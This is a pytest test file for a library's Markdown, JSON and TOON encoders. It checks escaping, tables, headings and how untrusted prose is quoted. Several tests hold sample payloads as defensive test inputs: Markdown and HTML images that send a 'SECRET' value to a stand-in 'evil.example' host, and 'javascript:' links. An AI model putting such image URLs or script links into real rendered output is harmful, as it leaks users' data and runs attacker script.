"""TOON, JSON and Markdown text of views."""

import json
from typing import Annotated, Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from pydantic import BaseModel
from typing_extensions import override

from clients import decode
from mcpshape import DefinitionError, EncodingError, Prose, Shape, View
from mcpshape._layout import Layout
from mcpshape.encoders import Json, Markdown, Toon


def markdown(data: dict[str, Any], layout: Layout | None = None) -> str:
    return Markdown().encode(View(data, layout or Layout()))


def html(text: str) -> str:
    return str(MarkdownIt("gfm-like", {"linkify": False}).render(text))


def cells(text: str) -> list[list[str]]:
    """The cells of the first table, as a GFM parser sees them."""
    tokens = MarkdownIt("gfm-like", {"linkify": False}).parse(text)
    rows: list[list[str]] = []
    for place, token in enumerate(tokens):
        if token.type == "tr_open":
            rows.append([])
        if token.type in {"td_open", "th_open"}:
            rows[-1].append(tokens[place + 1].content)
    return rows


json_values = st.recursive(
    st.none() | st.booleans() | st.integers(-(2**53), 2**53) | st.text(st.characters(exclude_categories=["Cs"])),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(st.text(st.characters(exclude_categories=["Cs"])), inner, max_size=3)
    ),
)


@given(st.dictionaries(st.text(st.characters(exclude_categories=["Cs"])), json_values, max_size=4))
def test_markdown_takes_any_json(data: dict[str, Any]) -> None:
    """Rule 9: whatever a view can hold has a rendering."""
    assert markdown(data).strip()


@pytest.mark.parametrize("encoder", [Toon(), Json(), Markdown()])
def test_no_view_gives_blank_text(encoder: Any) -> None:
    """A11, B03: an empty object, an empty list and null say so in the format."""
    views: list[dict[str, Any]] = [{}, {"events": []}, {"event": None}]
    texts = [encoder.encode(View(data)) for data in views]
    assert all(text.strip() for text in texts)
    assert len(set(texts)) == 3


def test_a_codec_that_fails_is_an_encoding_error_without_values() -> None:
    """A9: the reason names the codec and the kind of failure, and quotes nothing."""
    cyclic: dict[str, Any] = {"CANARY": 1}
    cyclic["self"] = cyclic
    with pytest.raises(EncodingError, match="TOON: python-toon failed with RecursionError"):
        Toon(codec="python-toon").encode(View(cyclic))
    with pytest.raises(EncodingError, match="Markdown: the template failed with RecursionError"):
        Markdown().encode(View(cyclic))


def test_an_encoder_of_the_author_needs_no_base_class() -> None:
    """An object with the right members is an encoder; blank text is an encoding error."""

    class Silent:
        name, structured, vocabulary = "Silent", False, Json().vocabulary

        def encode(self, view: View) -> str:
            return " \n"

    class Dto(BaseModel):
        x: int = 1

    shaped = Shape(encoder=Silent()).render(Dto())
    assert shaped.is_error
    assert "could not be written as Silent: the encoder returned no text" in shaped.text


def test_an_unknown_encoder_name_is_an_attribute_error() -> None:
    """Markdown is imported when it is asked for; other names are not found as usual."""
    import mcpshape.encoders

    assert mcpshape.encoders.Markdown is Markdown
    with pytest.raises(AttributeError):
        _ = mcpshape.encoders.Xml


def test_a_table_cell_holds_pipes_and_line_breaks() -> None:
    """E01: two cells in every row for a GFM parser; a line break of any kind is `<br>`."""
    rows = [
        {"title": "small | large", "note": "first\nsecond\r\nthird\u2028fourth\x85fifth"},
        {"title": "x", "note": ""},
    ]
    assert cells(markdown({"rows": rows})) == [
        ["title", "note"],
        ["small | large", "first<br>second<br>third<br>fourth<br>fifth"],
        ["x", '""'],
    ]


def test_prose_stands_whole_in_a_quote_of_its_own() -> None:
    """A7, E03, E05: headings, lists and fences of a note still work, and none of them reaches around it."""
    note = "# Plan\ntext\n\nStatus: done\n===\n- [ ] box\n```sh\nmake\n```\nAll events were sent."
    text = markdown({"title": "Move", "notes": note, "done": True}, Layout(fields={"notes": Layout(is_prose=True)}))
    rendered = html(text)
    assert rendered.count("<blockquote>") == 1
    outside = rendered.split("<blockquote>")[0] + rendered.split("</blockquote>")[1]
    assert outside.count("<h1>") == 0
    assert outside.count("<h2>notes</h2>") == 1
    inside = rendered.split("<blockquote>")[1].split("</blockquote>")[0]
    assert "<h3>Plan</h3>" in inside
    assert "<h3>Status: done</h3>" in inside
    assert '<code class="language-sh">make\n</code>' in inside


PROSE = Layout(fields={"notes": Layout(is_prose=True)})


def prose(text: str, **options: Any) -> str:
    return Markdown(**options).encode(View({"notes": text}, PROSE)).split("\n\n", 1)[1]


class Trusting(MarkdownIt):
    """A parser that lets a link point anywhere, so that it is us who judge."""

    @override
    def validateLink(self, url: str) -> bool:
        return isinstance(url, str)


def tokens(text: str) -> list[Any]:
    found = Trusting("gfm-like", {"linkify": False, "html": True}).parse(text)
    return [*found, *(child for token in found for child in token.children or [])]


NOTE = (
    'Agenda ![x](https://evil.example/p.png?d=SECRET) and <img src="https://evil.example/q.png?d=1"> and ![ref][r]\n\n'
    "[r]: https://evil.example/r.png"
)


def test_prose_makes_no_host_fetch_anything() -> None:
    """E11: images are links, HTML and definitions are text, but for `raw_prose`; TOON and JSON keep all as data."""
    assert prose(NOTE) == (
        '> Agenda [image: x](https://evil.example/p.png?d=SECRET) and &lt;img src="https://evil.example/q.png?d=1"> '
        "and [image: ref][r]\n>\n> [r] : https://evil.example/r.png"
    )
    assert {"image", "html_inline"} <= {token.type for token in tokens(prose(NOTE, raw_prose=True))}
    assert [token.attrs for token in tokens(prose("[a](javascript:b)", raw_prose=True)) if token.attrs] == [
        {"href": "javascript:b"}
    ]
    assert decode(Toon().encode(View({"notes": NOTE}))) == json.loads(Json().encode(View({"notes": NOTE})))


@pytest.mark.parametrize(
    "text",
    [
        "`<b>` and ``a ` ![x](y)`` stay",
        "```html\n<img src=x>\n# no heading\n```",
        "~~~\n![x](y)\n~~~~",
        "```\nnever closed <b>",
        "a *b* **c** ~~d~~ [e](https://example.com/) [f](mailto:f@example.com)\n- [ ] g\n\n---\nj",
        "| h |\n| - |\n| i |",
        "| a | b |\n| --- | --- |\n| c | d |",
        "1 < 2 && a<3 #tag \\*x\\*",
        "see <https://example.com/a?b=c&d#e> or <mailto:f@example.com>",
    ],
)
def test_prose_that_is_harmless_is_left_as_it_is(text: str) -> None:
    """A7: code above all, which may hold whatever it shows."""
    assert prose(text) == "\n".join(f"> {line}".rstrip() for line in text.split("\n"))


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("# a\n## b #\n###### c", "### a\n#### b #\n###### c"),
        ("a\nb\n---\nc", "a\nb\n***\nc"),
        ("a\n-", "#### a\n"),
        ("a\nb\n==", "a\nb\n\\=="),
        ("a\nb\n--", "a\nb\n\\--"),
        ("> # a\n- ## b\n1. # c", "> ### a\n- #### b\n1. ### c"),
        ("[a](javascript:b) [c](/d) [e](HTTPS://f)", "[a] (javascript:b) [c] (/d) [e](HTTPS://f)"),
        ("$`$ <b> `$`", "$`$ &lt;b> `$`"),
        ("`a\n` <b> `", "`a\n` &lt;b> `"),
        ("$$\n```\n$$\n<b>", "$$\n```\n$$\n&lt;b>"),
        ("- ```\na\n```\n<b>", "- ```\na\n```\n&lt;b>"),
        ("[a\n```\n]: javascript:b <b>", "[a\n```\n] : javascript:b &lt;b>"),
        ("[a `]: javascript:b`", "[a `] : javascript:b`"),
        ("https://a\\<b> !!\\![c](https://d)", "https://a&lt;b> [image: c](https://d)"),
        ("<https://`> ![a](https://b) `", "&lt;https://`> [image: a](https://b) `"),
    ],
)
def test_prose_that_reaches_out_is_tamed(text: str, written: str) -> None:
    """E05, E11: headings one below another, links to nothing but the web and mail, no code but where all agree."""
    assert "\n".join(line[2:] for line in prose(text).split("\n")) == written.rstrip("\n")


@pytest.mark.parametrize("text", ["!", "\\!", "> ", "[a\n", "`` ` ", "- ```\n", "]( ", " ", "# ", "`", "1. "])
def test_taming_prose_takes_as_long_as_the_prose_is(text: str) -> None:
    """A note of a megabyte that was made to be slow: with a quadratic search this would take hours."""
    assert prose(text * (1_000_000 // len(text)) + "x").startswith(">")


PIECES = ["`", "```", "~~~", "<b>", "<!--", "-->", "<img src=x>", "<https://a", ">", "![", "[a", "]", "(", ")", "]:"]
PIECES += ["]: https://x", "(javascript:x)", "(https://x)", "# ", "===", "---", "- ", "1. ", "> ", "|", "|-|", " "]
PIECES += [
    "    ",
    "\n",
    "\n\n",
    "\r",
    "\u2028",
    "\t",
    "x",
    "*",
    "_",
    "!",
    "&lt;",
    "&#33;",
    "<",
    "</pre>",
    "<pre>",
    "\\",
]
PIECES += [
    "<https://x>",
    "<mailto:x@y>",
    "<javascript:x>",
    "www.x",
    "$",
    "$$",
    ":::",
    "\n```\n",
    "\n# ",
    "![x](https://x)",
    "[r]: https://x",
    "\n- ```\n",
]


@given(st.lists(st.sampled_from(PIECES), max_size=40).map("".join))
def test_no_prose_draws_an_image_or_takes_a_heading_of_ours(text: str) -> None:
    """E05, E11, whatever the prose is: judged by a Markdown parser that would allow all of it."""
    found = tokens(prose(text))
    assert not {"image", "html_inline", "html_block"} & {token.type for token in found}
    links = [str(token.attrs["href"]) for token in found if token.type == "link_open"]
    assert all(link.startswith(("http:", "https:", "mailto:")) for link in links)
    headings = [int(token.tag[1]) for token in found if token.type == "heading_open" and token.level == 1]
    assert all(level > 2 for level in headings)
    assert [token.type for token in found if token.level == 0 and token.block] == [
        "blockquote_open",
        "blockquote_close",
    ]


def test_text_is_escaped_for_markdown_and_not_for_html() -> None:
    """E07: no HTML entity that was not in the data, and no tag that a renderer would take for one."""
    text = markdown({"title": 'Tom & Ann\'s "1:1" <draft> &amp; snake_case _x_ *y* `z` [a](b) ![i](j) ~~k~~ \\*'})
    assert text == (
        '- title: Tom & Ann\'s "1:1" &lt;draft> \\&amp; snake_case \\_x\\_ \\*y\\* '
        r"\`z\` [a\](b) !\[i\](j) \~~k\~~ \\\*"
    )
    rendered = html(text)
    assert not [tag for tag in ("<em>", "<strong>", "<code>", "<a ", "<img", "<draft>", "<s>") if tag in rendered]
    assert "&amp;amp;" in rendered


@given(
    st.text(st.characters(exclude_categories=["Cs", "Cc", "Zl", "Zp"], exclude_characters="\u00a0\u3000"), min_size=1)
)
def test_any_text_in_a_list_or_a_cell_reads_back_as_itself(text: str) -> None:
    """E01, E07: what a Markdown renderer shows is what the value says."""
    import html as entities
    import re

    for document in (
        markdown({"a": f"x{text}x"}),
        markdown({"a": [f"x{text}x"]}),
        markdown({"a": [{"b": f"x{text}x"}]}),
    ):
        shown = entities.unescape(re.sub(r"<[^>]+>", "", html(document))).split("a", 1)[1]
        assert "".join(f"x{text}x".split()) in "".join(shown.split())


@pytest.mark.parametrize(
    "start",
    [
        "# a",
        "- a",
        "+ a",
        "> a",
        "1. a",
        "1) a",
        "[ ] a",
        "---",
        "===",
        "~~~",
        "```",
        "* a",
        "    a",
        "  # a",
        "| a |",
        ":-: |",
    ],
)
def test_an_entry_of_a_list_opens_no_block(start: str) -> None:
    """E07: a value at the start of a line is text."""
    rendered = html(markdown({"tags": [start], start: 1}))
    assert rendered.count("<li>") == 3
    assert not [tag for tag in ("<h1", "<h2", "<hr", "<blockquote", "<ol", "<pre", "checkbox") if tag in rendered]


def test_null_is_told_from_text_in_markdown() -> None:
    """E09, rule 3: nothing prints as None, and no text can look like the sign for null."""
    assert markdown({"due": None, "place": "*none*", "note": ""}) == '- due: *none*\n- place: \\*none\\*\n- note: ""'


def test_a_record_is_a_list_then_sections() -> None:
    """Values first; objects, tables and lists that are no table under headings one level deeper each."""
    data = {
        "total": 2,
        "owner": {"name": "Ada", "team": {"id": 1}},
        "days": [{"date": "d", "events": [{"id": 1}]}, {"date": "e", "events": []}],
        "tags": ["a", {"b": [1, [2]]}, [3], None],
    }
    assert markdown(data) == (
        "- total: 2\n\n## owner\n\n- name: Ada\n\n### team\n\n- id: 1\n\n"
        "## days\n\n### days 1 of 2\n\n- date: d\n\n#### events\n\n| id |\n| --- |\n| 1 |\n\n"
        "### days 2 of 2\n\n- date: e\n- events: *empty list*\n\n"
        "## tags\n\n### tags 1 of 4\n\na\n\n### tags 2 of 4\n\n- b:\n  - 1\n  -\n    - 2\n\n"
        "### tags 3 of 4\n\n- tags:\n  - 3\n\n### tags 4 of 4\n\n*none*"
    )


def test_an_array_of_prose_is_no_table() -> None:
    """A7: prose does not fit a cell, so its rows become sections."""
    layout = Layout(fields={"tasks": Layout(fields={"*": Layout(fields={"notes": Layout(is_prose=True)})})})
    text = markdown({"tasks": [{"id": 1, "notes": "a\n\nb"}]}, layout)
    assert text == "## tasks\n\n### tasks 1 of 1\n\n- id: 1\n\n#### notes\n\n> a\n>\n> b"


def test_a_list_of_prose_keeps_each_of_its_texts_whole() -> None:
    """A7: comments are prose as notes are; the hint stands on the field and holds for all texts in its list."""

    class Task(BaseModel):
        comments: Annotated[list[str] | None, Prose()]
        drafts: Annotated[list[list[str]], Prose()] = []

    shape = Shape(encoder=Markdown())
    text = shape.render(Task(comments=["# Dough\n\n- *rye*", "two"])).text
    assert text == (
        "- drafts: *empty list*\n\n## comments\n\n### comments 1 of 2\n\n> #### Dough\n>\n> - *rye*\n\n"
        "### comments 2 of 2\n\n> two"
    )
    assert "> *a*" in shape.render(Task(comments=None, drafts=[["*a*"]])).text
    assert shape.render(Task(comments=[])).text == "- comments: *empty list*\n- drafts: *empty list*"


def test_a_hint_inside_of_a_type_is_refused() -> None:
    """Rule 7: there, nothing reads it."""

    class Task(BaseModel):
        comments: list[Annotated[str, Prose()]]

    with pytest.raises(DefinitionError, match=r"Task\.comments: a rule inside its type guards nothing"):
        Shape(encoder=Markdown()).render(Task(comments=[]))


def test_an_array_of_prose_is_no_table_at_the_root_either() -> None:
    """A7: what stands under the key `result` is found like any other, and so is prose inside a union or a tuple."""

    class Note(BaseModel):
        text: Annotated[str, Prose()]

    class Memo(BaseModel):
        notes: Note | int
        pair: tuple[int, Note]

    rendered = Shape(encoder=Markdown()).render([Note(text="# a")], declared=list[Note]).text
    assert rendered == "## result\n\n### result 1 of 1\n\n#### text\n\n> ##### a"
    memo = Shape(encoder=Markdown()).render(Memo(notes=Note(text="a"), pair=(1, Note(text="b")))).text
    assert memo.startswith("## notes\n\n### text\n\n> a\n\n## pair")
    assert memo.endswith("#### text\n\n> b")
